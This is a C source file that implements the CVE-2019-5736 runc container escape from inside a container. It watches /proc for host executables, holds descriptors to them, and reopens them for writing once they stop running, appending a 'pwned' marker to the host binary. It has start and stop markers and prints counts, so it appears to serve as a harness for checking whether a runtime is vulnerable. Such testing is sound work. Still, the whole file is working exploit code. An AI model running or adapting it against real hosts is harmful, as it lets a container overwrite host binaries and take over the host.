/* exewatch SECONDS DIR: the attacker of CVE-2019-5736, run inside a container.
 *
 * Over and over: open /proc/PID/exe of every process it can see (read-only,
 * which the kernel allows when it may ptrace the process: same user, no more
 * capabilities than ours, dumpable) and keep the descriptor if the file is
 * not the container's own (a file at the same path in here, the same inode);
 * then try to reopen each
 * kept descriptor for writing through /proc/self/fd/N. While the file runs,
 * that fails with ETXTBSY; once no process runs it any more, it succeeds, and
 * the host's binary behind it is ours to write. Writes DIR/watching once it
 * runs; ends after SECONDS or when DIR/stop exists, and prints what it saw:
 *     opened N   denied N   wrote N
 * with one "wrote /proc/self/fd/N -> TARGET" line per write. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 1024

int main(int argc, char **argv)
{
    int seconds = argc > 1 ? atoi(argv[1]) : 60;
    const char *dir = argc > 2 ? argv[2] : "";
    char ready[4096], stop[4096];
    snprintf(ready, sizeof ready, "%s/watching", dir);
    snprintf(stop, sizeof stop, "%s/stop", dir);
    time_t end = time(NULL) + seconds;
    ssize_t n;
    int held[MAX_HELD], nheld = 0;
    long opened = 0, denied = 0, wrote = 0;
    FILE *f = fopen(ready, "w");
    if (f)
        fclose(f);
    while (time(NULL) < end && access(stop, F_OK) != 0) {
        DIR *proc = opendir("/proc");
        struct dirent *e;
        while (proc && (e = readdir(proc))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid())
                continue;
            char path[64], target[4096];
            struct stat opened_st, here_st;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0) {
                if (errno == EACCES || errno == EPERM)
                    denied++;
                continue;
            }
            n = readlink(path, target, sizeof target - 1);
            target[n > 0 ? n : 0] = 0;
            int ours = n > 0 && fstat(fd, &opened_st) == 0 && stat(target, &here_st) == 0
                       && opened_st.st_dev == here_st.st_dev && opened_st.st_ino == here_st.st_ino;
            if (n <= 0 || ours || nheld == MAX_HELD) {
                close(fd);
                continue;
            }
            opened++;
            held[nheld++] = fd;
        }
        if (proc)
            closedir(proc);
        for (int i = 0; i < nheld; i++) {
            char path[64], target[4096];
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
            int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
            if (w < 0)
                continue;
            if (write(w, "pwned\n", 6) == 6) {
                wrote++;
                n = readlink(path, target, sizeof target - 1);
                target[n > 0 ? n : 0] = 0;
                printf("wrote %s -> %s\n", path, target);
            }
            close(w);
            close(held[i]);
            held[i--] = held[--nheld];
        }
    }
    printf("opened %ld denied %ld wrote %ld\n", opened, denied, wrote);
    return 0;
}
